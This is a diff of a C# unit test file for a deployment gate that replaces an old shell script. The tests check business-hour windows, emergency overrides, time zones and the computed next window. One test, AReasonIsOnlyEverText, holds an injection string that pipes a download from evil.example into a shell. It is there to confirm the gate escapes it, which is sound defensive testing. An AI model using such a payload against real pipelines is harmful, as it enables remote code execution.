@@ -6,7 +6,8 @@ namespace Pipelines.Tests.Gates;
 /// <summary>The faults of the shell script that this gate replaces, by their numbers in its analysis. None may come back.</summary>
 public sealed class OriginalBugsTests
 {
-    private static readonly GateRules Original = new("production", Given.Calendar("UTC", "mon-fri 09:00-18:00"), [], [], new OverridePolicy());
+    private static readonly GateRules Original =
+        new("production", Given.Calendar("UTC", "mon-fri 09:00-18:00"), [], [], new OverridePolicy());
 
     // 1: "hour <= 18" left the gate open until 18:59.
     [Theory]
@@ -41,7 +42,10 @@ public sealed class OriginalBugsTests
     [InlineData(false, false)]
     [InlineData(true, true)]
     public void AManualRunKeepsTheChecksUnlessItIsAnEmergency(bool emergency, bool deploys) =>
-        Assert.Equal(deploys, Decide(Original, new GateRequest("workflow_dispatch", Given.Utc("2026-03-11T10:00:00"), "failure", emergency, "payments are down")).ShouldDeploy);
+        Assert.Equal(deploys,
+            Decide(Original,
+            new GateRequest("workflow_dispatch", Given.Utc("2026-03-11T10:00:00"), "failure", emergency,
+            "payments are down")).ShouldDeploy);
 
     // 4: any reason would do, a blank one too.
     [Theory]
@@ -50,14 +54,18 @@ public sealed class OriginalBugsTests
     [InlineData("x")]
     [InlineData(null)]
     public void AnEmergencyNeedsARealReason(string? reason) =>
-        Assert.Equal("reason-required", Decide(Original, new GateRequest("workflow_dispatch", Given.Utc("2026-03-14T23:45:00"), Emergency: true, Reason: reason)).ReasonCode);
+        Assert.Equal("reason-required",
+            Decide(Original,
+            new GateRequest("workflow_dispatch", Given.Utc("2026-03-14T23:45:00"), Emergency: true, Reason: reason)).ReasonCode);
 
     // 4: the reason was pasted into a script and a JSON text.
     [Fact]
     public void AReasonIsOnlyEverText()
     {
         const string reason = "\"; curl evil.example | sh; echo \"$(id)\n`id`";
-        var explanation = Decide(Original, new GateRequest("workflow_dispatch", Given.Utc("2026-03-14T23:45:00"), Emergency: true, Reason: reason)).Explanation;
+        var explanation =
+            Decide(Original,
+                new GateRequest("workflow_dispatch", Given.Utc("2026-03-14T23:45:00"), Emergency: true, Reason: reason)).Explanation;
         Assert.Contains("echo \"$(id)\\u{a}`id`", explanation, StringComparison.Ordinal);
     }
 
@@ -68,7 +76,8 @@ public sealed class OriginalBugsTests
     [InlineData("neutral")]
     [InlineData("skipped")]
     public void ChecksWithoutSuccessAreNotSuccess(string? conclusion) =>
-        Assert.Equal("checks-failed", Decide(Original, new GateRequest("workflow_run", Given.Utc("2026-03-11T10:00:00"), conclusion)).ReasonCode);
+        Assert.Equal("checks-failed",
+            Decide(Original, new GateRequest("workflow_run", Given.Utc("2026-03-11T10:00:00"), conclusion)).ReasonCode);
 
     // 12: UTC only, so that nine o'clock was ten or eleven for the people who worked there.
     [Theory]
@@ -77,7 +86,8 @@ public sealed class OriginalBugsTests
     [InlineData("2026-03-30T07:00:00", true)] // summer time began in between
     [InlineData("2026-03-30T16:00:00", false)]
     public void TheWindowFollowsTheClockOnTheWall(string now, bool open) => Assert.Equal(
-        open, Decide(Original with { Calendar = Given.Calendar("Europe/Berlin", "mon-fri 09:00-18:00") }, new GateRequest("push", Given.Utc(now))).ShouldDeploy);
+        open, Decide(Original with { Calendar = Given.Calendar("Europe/Berlin", "mon-fri 09:00-18:00") },
+            new GateRequest("push", Given.Utc(now))).ShouldDeploy);
 
     // 12: no holidays, no freezes.
     [Theory]
@@ -97,7 +107,8 @@ public sealed class OriginalBugsTests
     // The log promised "next window: Monday 09:00" that nothing had computed.
     [Fact]
     public void TheNextWindowIsComputed() =>
-        Assert.Equal(Given.Utc("2026-03-16T09:00:00"), Decide(Original, new GateRequest("push", Given.Utc("2026-03-14T14:30:00"))).NextOpen);
+        Assert.Equal(Given.Utc("2026-03-16T09:00:00"),
+            Decide(Original, new GateRequest("push", Given.Utc("2026-03-14T14:30:00"))).NextOpen);
 
     private static GateDecision Decide(GateRules rules, GateRequest request) => new Gate(rules).Decide(request);
 }
